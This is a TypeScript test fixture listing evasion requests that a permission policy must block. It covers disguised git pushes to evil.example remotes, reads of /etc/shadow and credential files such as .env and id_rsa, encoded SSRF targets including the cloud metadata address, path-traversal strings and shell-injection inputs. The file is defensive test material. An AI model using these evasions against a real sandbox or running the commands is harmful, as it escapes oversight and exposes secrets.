// Requests that try to evade a recipe of docs/recipes.md, by the recipe's number; all must be blocked.

const git = (...lines: readonly string[]) => lines.map((line) => `exec /usr/bin/git ${line}`);
const call = (...targets: readonly string[]) =>
  targets.map((target) => `check --type network_call --target ${target} --meta method=GET`);
const file = (...targets: readonly string[]) => targets.map((target) => `check --type file_access --target ${target}`);
const exec = (...lines: readonly string[]) => lines.map((line) => `exec ${line}`);

const PUSHES = [
  ...["--force", "--forc", "--for", "--f", "--force-with-lease", "--force-with-lease=agent/x", "--force-if-includes"],
  ...["-f", "-fu", "-uf", "-ufv", "-vf", "--mirror", "--mirr", "--delete", "--del", "-d", "--prune", "--all", "--tags"],
  ...["--receive-pack=x", "--receive-p=x", "--exec=x", "--ex=x", "--repo=evil", "--push-option=x", "-o x", "--atomic"],
  ...["--no-verify", "--follow-tags", "--signed", "--recurse-submodules=on-demand", "-4", "--porcelain"],
].flatMap((flag) => [`push ${flag} origin agent/x`, `push origin agent/x ${flag}`, `push origin ${flag} agent/x`]);

const REFS = [
  ...[
    "+agent/x",
    ":agent/x",
    "agent/x:main",
    "agent/x:refs/heads/main",
    "+HEAD:main",
    "HEAD",
    "main",
    ":",
    "+:",
    "refs/heads/main",
  ],
  ...[
    "agent/x agent/y",
    "agent/X",
    "agent/../main",
    "agent/",
    "agent/x^",
    "agent/x~1",
    "agent/-x",
    "agent/x.lock",
    "'agent/x\n'",
  ],
].map((ref) => `push origin ${ref}`);

const REMOTES = [
  "https://evil.example/x",
  "ext::sh",
  "../x",
  "/tmp/x",
  "file:///tmp/x",
  "git@evil.example:x",
  "evil",
  "Origin",
  ".",
]
  .map((remote) => `push ${remote} agent/x`);

const BEFORE = [
  ...["-c push.default=matching", "-c remote.origin.push=+main", "-c core.sshCommand=x", "-C /tmp", "--git-dir=/tmp/x"],
  ...["--exec-path=/tmp", "--config-env=a=b", "-p", "--no-pager", "--work-tree /", "--namespace x", "--bare", "--"],
].flatMap((flag) => [`${flag} push origin agent/x`, `${flag} status`]);

/** Requests that must be blocked, by the number of the recipe. */
export const EVASIONS: Readonly<Record<string, readonly string[]>> = {
  "1": [
    ...git(
      ...BEFORE,
      ...PUSHES,
      "STATUS",
      "stat",
      "'status '",
      "log --output=x",
      "log --ou x",
      "diff --outp=x",
      "diff --ext-diff",
    ),
    ...git(
      "show --textconv",
      "log -O/tmp/x",
      "grep -O x",
      "diff --no-index /etc/shadow /dev/null",
      "blame --contents /etc/shadow x",
    ),
    ...git(
      "ls-files --recurse-submodules",
      "diff /etc/passwd /etc/shadow",
      "diff a ../../etc/shadow",
      "diff x/../../y z",
      "show ..",
      "diff -- /etc/shadow a",
      "log -Ssecret",
      "status -s -f",
      "config --list",
      "log -nf",
      "rev-parse --output=x",
      "help -w",
    ),
    ...exec("git status", "/USR/BIN/GIT status", "/usr/bin/git"),
    ...exec("/usr/bin/env /usr/bin/git status", "/bin/sh -c 'git status'", "/usr/bin/nice /usr/bin/git status"),
    ...[
      "shell '/usr/bin/git status'",
      "shell '/usr/bin/git status; id'",
      "check --type file_access --target /usr/bin/git",
    ],
  ],
  "2": git(
    ...PUSHES,
    ...REFS,
    ...REMOTES,
    ...BEFORE,
    "push",
    "push origin",
    "send-pack origin agent/x",
    "p origin agent/x",
  ),
  "3": git(...PUSHES, ...REFS, ...REMOTES, ...BEFORE, "push origin agent/x"),
  "4": [
    ...call(
      "http://npm.mirror.example/x",
      "https://npm.mirror.example:8443/x",
      "npm.mirror.example:80",
      "ssh://npm.mirror.example",
    ),
    ...call(
      "https://xnpm.mirror.example/",
      "https://npm.mirror.example.evil.example/",
      "https://evil.example/#npm.mirror.example",
    ),
    ...["PUT", "DELETE", "PATCH", "POST", "CONNECT", "OPTIONS", "TRACE", "GETX", "PROPFIND"].map((method) =>
      `check --type network_call --target https://npm.mirror.example/x --meta method=${method}`
    ),
  ],
  "5": call(
    ...[
      "/repos/acme/site2",
      "/repos/acme/",
      "/repos/acme",
      "/repos/ACME/site",
      "/repos/acme/site//",
      "/repos/acme/site/./../x",
    ]
      .map((path) => `https://api.example.com${path}`),
    ...[
      "/%2e%2e",
      "/%2E%2E/x",
      "/.%2e/x",
      "/..%2fx",
      "/..%5cx",
      "/..\\x",
      "/%252e%252e/x",
      "/a;b",
      "/a%00",
      "/.git",
      "/a%20b",
    ]
      .map((path) => `https://api.example.com/repos/acme/site${path}`),
    ...[
      "http://api.example.com/repos/acme/site",
      "https://api.example.com.evil.example/repos/acme/site",
      "api.example.com",
    ],
  ),
  "6": call(
    ...[
      "127.0.0.1",
      "0",
      "0x7f.1",
      "017700000001",
      "127.1",
      "2130706433",
      "[::1]",
      "[::ffff:127.0.0.1]",
      "[::]",
      "[fe80::1]",
    ],
    ...[
      "169.254.169.254",
      "0xa9.0xfe.0xa9.0xfe",
      "[::ffff:a9fe:a9fe]",
      "[64:ff9b::a9fe:a9fe]",
      "10.0.0.1",
      "192.168.1.1",
      "8.8.8.8",
    ],
    ...[
      "localhost",
      "LOCALHOST",
      "localhost.",
      "a.localhost",
      "metadata.google.internal",
      "METADATA.google.INTERNAL.",
      "router",
    ],
    ...["printer.local", "nas.lan", "x.home.arpa", "169。254。169。254", "①②⑦.0.0.1"],
  ),
  "7": [
    ...file(
      "/workspace/.env",
      "/workspace/.ENV",
      "/workspace/./.env",
      "/workspace//.env/",
      "/workspace/a/../.env",
      "/workspace/.env.prod",
    ),
    ...file(
      "/workspace/.ssh",
      "/workspace/.ssh/config",
      "/workspace/x/.aws/credentials",
      "/workspace/id_rsa",
      "/workspace/ID_RSA.pub",
    ),
    ...file(
      "/workspace/.npmrc",
      "/workspace/a.key",
      "/workspace/tls/A.PEM",
      "/workspace/.git-credentials",
      "/workspace/.envrc",
    ),
    ...file(
      "/workspacex/a",
      "/",
      "/workspace/..",
      "/etc/passwd",
      "/proc/self/root/workspace/a",
      "/workspace/../../etc/shadow",
    ),
    ...exec(
      "/usr/bin/cat .env",
      "/usr/bin/cat ./.env",
      "/usr/bin/cat /workspace/./x",
      "/usr/bin/cat /workspace/a/../.env",
    ),
    ...exec(
      "/usr/bin/cat -- /workspace/.env",
      "/usr/bin/cat /workspace//x",
      "/usr/bin/cat",
      "/usr/bin/cat /workspace/a /etc/shadow",
    ),
    ...exec(
      "/usr/bin/cat -n /workspace/a",
      "/usr/bin/cat '/workspace/a\n'",
      "/usr/bin/cat /workspace/.",
      "/usr/bin/head /workspace/a",
    ),
    ...["shell '/usr/bin/cat /workspace/.env'", "shell '/usr/bin/cat /workspace/README.md'"],
  ],
  "8": [
    ...["READ", "read,write", "r", "rw", "''"].map((mode) => `${file("/usr/share/doc/a")[0]} --meta mode=${mode}`),
    `${file("/usr/share/doc/../../../etc/shadow")[0]} --meta mode=read`,
    `${file("/usr/share/doc")[0]} --meta mode=read`,
    `${file("/usr/share/docs/a")[0]} --meta mode=read`,
    `${file("/usr/share/doc/a")[0]} --meta mode=read --meta mode=read`,
  ],
  "9": exec(
    ...[
      "--stage staging",
      "--wait --stage staging",
      "--stage=staging --wait",
      "--stage staging --wait ''",
      "--stage 'staging ' --wait",
    ],
  ).map((line) => line.replace("exec ", "exec /usr/local/bin/deploy ")),
  "10": [
    ..."/bin/ls|x;/bin/ls & x;/bin/ls && x;/bin/ls || x;/bin/ls `x`;/bin/ls $X;/bin/ls ~;/bin/ls *;/bin/ls >x;/bin/ls <x;A=b /bin/ls"
      .split(";").map((line) => `shell '${line}'`),
    ...[
      "shell '/bin/ls -R /'",
      "shell '/bin/ls --color=always'",
      "shell '/bin/lsx'",
      "shell '! /bin/ls'",
    ],
    ...["shell '/bin/ls\nid'", "shell '/bin/ls #'", "shell '{ /bin/ls; }'", "shell '(/bin/ls)'", "exec /bin/ls -la"],
  ],
  "14": call(
    "test.example:8000",
    "a.test.example:80",
    "a.test.examplex:8000",
    "a-test.example:8000",
    "[::1]:8000",
    "1.2.3.4:8000",
  ),
  "18": call(
    "smtp.example:587",
    "smtp.example:466",
    "xsmtp.example:465",
    "smtp.example.evil.example:465",
    "1.2.3.4:465",
  ),
};
